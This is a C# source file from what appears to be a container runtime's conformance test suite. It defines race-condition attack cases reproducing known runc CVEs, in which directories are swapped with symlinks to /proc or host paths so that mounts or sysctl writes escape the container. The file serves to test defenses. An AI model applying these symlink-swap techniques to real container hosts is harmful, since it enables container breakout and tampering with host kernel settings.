namespace Inro.Conformance.Oci.Attacks;

internal static partial class AttackList
{
    /// <summary>Rounds of a race: those who lose it at all lose it in a few.</summary>
    private const int RacingRounds = 12;

    /// <summary>Names that change from a directory to a link while the runtime works, in a volume or in the root.</summary>
    private static IEnumerable<Attack> Races() =>
    [
        new()
        {
            Case = 4, Name = "/proc becomes a link", Known = "CVE-2023-27561", Against = Destinations, Rounds = RacingRounds,
            Does = "the image's /proc is exchanged with a link to another directory all the time",
            Prepare = static b => Link(b, "link", "/elsewhere", makes: "elsewhere"),
            Try = static b =>
            {
                using var swapper = new Swapper(b.Rootfs + "/proc", b.Rootfs + "/link");
                return Loot.Run(b, "grep -q ' /elsewhere ' /elsewhere/self/mountinfo && echo got it mounted elsewhere");
            },
        },
        new()
        {
            Case = 5, Name = "volume's directory becomes a link", Known = "CVE-2021-30465", Against = Destinations, Rounds = RacingRounds,
            Does = "a mount goes below a directory of a shared volume that is exchanged with a link to a directory of the host; a createContainer hook sees what is mounted there",
            Prepare = static b =>
            {
                Directory.CreateDirectory(Loot.Directory(b) + "/place");
                Volume(b, "/vol/one/place");
                string look = $"grep -q ' {b.Beside("victim")}/place ' /proc/self/mountinfo && echo got a mount on the host > {b.Beside("seen")}; true";
                b.Config["hooks"] = new System.Text.Json.Nodes.JsonObject
                {
                    ["createContainer"] = new System.Text.Json.Nodes.JsonArray(new System.Text.Json.Nodes.JsonObject { ["path"] = "/bin/sh", ["args"] = new System.Text.Json.Nodes.JsonArray("sh", "-c", look) }),
                };
            },
            Try = static b =>
            {
                Exchanged(b);
                return File.Exists(b.Beside("seen")) ? File.ReadAllText(b.Beside("seen")) : "";
            },
        },
        new()
        {
            Case = 9, Name = "mount point's parent becomes a link", Known = "CVE-2024-45310", Against = Destinations, Rounds = RacingRounds, Runc = Outcome.Sometimes,
            Does = "a mount point has to be made below a directory of a shared volume that is exchanged with a link to a directory of the host",
            Prepare = static b =>
            {
                Loot.Directory(b);
                Volume(b, "/vol/one/made");
            },
            Try = static b =>
            {
                Exchanged(b);
                return Loot.Made(b.Beside("victim"));
            },
        },
        new()
        {
            Case = 12, Name = "write to a kernel parameter turned away", Known = "CVE-2025-52881", Against = "src/Inro.Runtime/Steps/SysctlStep.cs", Rounds = RacingRounds,
            Does = "a file is mounted on a path whose first name is exchanged with a link to /proc, so that it covers a kernel parameter and the runtime writes to it",
            Prepare = static b =>
            {
                Directory.CreateDirectory(b.Rootfs + "/p/sys/net/ipv4");
                File.WriteAllText(b.Rootfs + "/p/sys/net/ipv4/ip_default_ttl", "");
                Link(b, "q", "/proc");
                File.WriteAllText(b.Beside("false"), "11\n");
                Mount(b, "/p/sys/net/ipv4/ip_default_ttl", "bind", b.Beside("false"), "bind");
                JsonPath.Put(b.Config, "linux.sysctl", """{"net.ipv4.ip_default_ttl":"47"}""");
            },
            Try = static b =>
            {
                using var swapper = new Swapper(b.Rootfs + "/p", b.Rootfs + "/q");
                b.Run();
                return File.ReadAllText(b.Beside("false")) == "11\n" ? "" : Loot.Mark + "the runtime's write";
            },
        },
    ];

    /// <summary>A shared volume on /vol that holds a directory, and a link to the victim; and a mount below.</summary>
    private static void Volume(Bundle bundle, string destination)
    {
        string volume = bundle.Beside("volume");
        Directory.CreateDirectory(volume + "/one/place");
        File.CreateSymbolicLink(volume + "/other", bundle.Beside("victim"));
        Mount(bundle, "/vol", "bind", volume, "bind");
        Mount(bundle, destination, "tmpfs", "tmpfs");
    }

    private static void Exchanged(Bundle bundle)
    {
        using var swapper = new Swapper(bundle.Beside("volume") + "/one", bundle.Beside("volume") + "/other");
        bundle.Run();
    }
}
